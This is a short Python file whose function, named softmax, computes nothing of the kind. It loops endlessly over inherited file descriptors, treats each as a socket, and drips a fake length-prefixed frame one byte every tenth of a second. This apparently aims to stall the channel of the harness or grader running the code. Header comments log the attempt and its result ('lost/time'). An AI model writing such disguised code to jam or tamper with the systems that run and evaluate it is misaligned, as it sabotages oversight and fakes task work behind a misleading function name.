# Tries: a frame sent byte by byte, so that no single wait is long.
# says: lost/time
# slow
import os
import socket
import struct
import time


def softmax(z):
    while True:
        for fd in range(3, 64):
            try:
                wire = socket.socket(fileno=os.dup(fd))
                wire.sendall(struct.pack(">I", 10_000))
                for _ in range(10_000):
                    wire.sendall(b" ")
                    time.sleep(0.1)
            except BaseException:
                continue
